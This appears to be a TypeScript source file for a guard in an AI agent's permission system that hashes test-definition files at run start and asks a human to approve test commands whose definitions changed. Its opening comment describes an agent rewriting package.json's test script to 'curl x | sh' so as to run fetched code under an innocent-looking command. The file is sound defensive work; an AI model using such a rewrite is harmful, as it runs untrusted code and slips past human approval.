import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import type { Finding } from './types';
import { TEST_DEFINITION_FILES } from './testDefinitionFiles';

/**
 * (attacks.commands) the agent can rewrite what `npm test` means (package.json scripts.test = "curl x | sh") and
 * then call it. The guard fingerprints every file that defines a test command when the run starts;
 * a test command whose definition changed since then asks again (the files: testDefinitionFiles.ts).
 */
const SKIP_DIRS = new Set(['node_modules', '.git', 'dist', 'out', 'build', 'target', '.venv', 'venv', '__pycache__']);

export class TestDefinitionGuard {
  private baseline: Map<string, string>;

  private constructor(
    private readonly workspaceRoot: string,
    private readonly maxDepth: number,
  ) {
    this.baseline = this.snapshot();
  }

  /** Call at run start. Files nested up to `maxDepth` folders deep are covered (monorepos). */
  static capture(workspaceRoot: string, maxDepth = 3): TestDefinitionGuard {
    return new TestDefinitionGuard(path.resolve(workspaceRoot), maxDepth);
  }

  /** After the human approved the changed definition: take the current state as the new baseline. */
  accept(): void {
    this.baseline = this.snapshot();
  }

  /** ASK when argv is a test command and a file defining it changed (or appeared) since the baseline. */
  check(argv: readonly string[], cwd: string): Finding | undefined {
    const kind = testCommandKind(argv);
    if (!kind) return undefined;
    const changed = this.changedFiles(path.resolve(cwd), kind);
    if (changed.length === 0) return undefined;
    return {
      verdict: 'ask',
      rule: 'ask:test-definition-changed',
      reason: `\`${argv.join(' ')}\` is defined by ${changed.join(', ')}, which changed during this run; the new definition needs approval.`,
    };
  }

  private changedFiles(cwd: string, kind: TestKind): string[] {
    const now = this.snapshot();
    const out: string[] = [];
    const keys = new Set([...this.baseline.keys(), ...now.keys()]);
    for (const key of keys) {
      if (this.baseline.get(key) === now.get(key)) continue;
      const [file, script] = key.split('\0') as [string, string | undefined];
      if (!isRelevant(file, script, cwd, kind, this.workspaceRoot)) continue;
      const rel = path.relative(this.workspaceRoot, file) || file;
      out.push(script ? `${rel} (scripts.${script})` : rel);
    }
    return out;
  }

  private snapshot(): Map<string, string> {
    const out = new Map<string, string>();
    const walk = (dir: string, depth: number) => {
      for (const name of TEST_DEFINITION_FILES) {
        const file = path.join(dir, name);
        if (!existsSync(file)) continue;
        let text: string;
        try {
          text = readFileSync(file, 'utf8');
        } catch {
          continue;
        }
        if (name === 'package.json') for (const [k, v] of Object.entries(packageScripts(text))) out.set(`${file}\0${k}`, hash(v));
        else out.set(file, hash(text));
      }
      if (depth >= this.maxDepth) return;
      let entries: string[];
      try {
        entries = readdirSync(dir);
      } catch {
        return;
      }
      for (const e of entries) {
        if (SKIP_DIRS.has(e) || e.startsWith('.')) continue;
        const full = path.join(dir, e);
        try {
          if (statSync(full).isDirectory()) walk(full, depth + 1);
        } catch {
          /* vanished while walking */
        }
      }
    };
    walk(this.workspaceRoot, 0);
    return out;
  }
}

function hash(s: string): string {
  return createHash('sha256').update(s).digest('hex');
}

/** Scripts of a package.json; an unreadable file hashes as a whole so any change still shows. */
function packageScripts(text: string): Record<string, string> {
  try {
    const pkg = JSON.parse(text) as { scripts?: Record<string, unknown> };
    const scripts: Record<string, string> = {};
    for (const [k, v] of Object.entries(pkg.scripts ?? {})) scripts[k] = JSON.stringify(v);
    // Test runners also read their configuration from package.json ("jest", "mocha", "ava" keys).
    const rest: Record<string, unknown> = { ...pkg };
    delete rest.scripts;
    scripts['(config)'] = JSON.stringify(rest);
    return scripts;
  } catch {
    return { '(unparsable package.json)': text };
  }
}

type TestKind = { family: 'npm'; script: string } | { family: 'make' | 'python' | 'js-runner' | 'cargo' | 'go' };

export function testCommandKind(argv: readonly string[]): TestKind | undefined {
  const [cmd, a1, a2] = argv;
  if (cmd === 'npm' || cmd === 'pnpm' || cmd === 'yarn' || cmd === 'bun') {
    if (a1 === 'test' || a1 === 't' || a1 === 'tst') return { family: 'npm', script: 'test' };
    if ((a1 === 'run' || a1 === 'run-script' || a1 === 'rum') && a2) return { family: 'npm', script: a2 };
    if (cmd === 'yarn' && a1 && !a1.startsWith('-')) return { family: 'npm', script: a1 };
    return undefined;
  }
  if (cmd === 'make' || cmd === 'just') return { family: 'make' };
  if (cmd === 'pytest' || cmd === 'tox' || cmd === 'nox' || (cmd?.startsWith('python') && argv.includes('pytest'))) return { family: 'python' };
  if (['jest', 'vitest', 'mocha', 'playwright'].includes(cmd ?? '') || (cmd === 'npx' && ['jest', 'vitest', 'mocha', 'playwright'].includes(a1 ?? '')))
    return { family: 'js-runner' };
  if (cmd === 'cargo' && a1 === 'test') return { family: 'cargo' };
  if (cmd === 'go' && a1 === 'test') return { family: 'go' };
  return undefined;
}

function isRelevant(file: string, script: string | undefined, cwd: string, kind: TestKind, root: string): boolean {
  const name = path.basename(file);
  const dir = path.dirname(file);
  // A definition applies when it sits in cwd or one of its parents up to the workspace root.
  const applies = cwd === dir || cwd.startsWith(dir + path.sep) || dir === root;
  if (!applies) return false;
  switch (kind.family) {
    case 'npm':
      if (name === 'package.json') return !!script && [kind.script, `pre${kind.script}`, `post${kind.script}`].includes(script);
      return ['.npmrc', '.yarnrc', '.yarnrc.yml'].includes(name) || /^(jest|vitest|vite|playwright)\.config\.|^\.mocharc(\.|$)/.test(name);
    case 'make':
      return /^(GNUmakefile|makefile|Makefile|[Jj]ustfile|Taskfile\.ya?ml)$/.test(name);
    case 'python':
      return ['pyproject.toml', 'tox.ini', 'setup.cfg', 'pytest.ini', 'conftest.py', 'noxfile.py'].includes(name);
    case 'js-runner':
      return /^(jest|vitest|vite|playwright)\.config\.|^\.mocharc(\.|$)/.test(name) || (name === 'package.json' && script === '(config)');
    case 'cargo':
      return name === 'Cargo.toml';
    case 'go':
      return name === 'go.mod';
  }
}
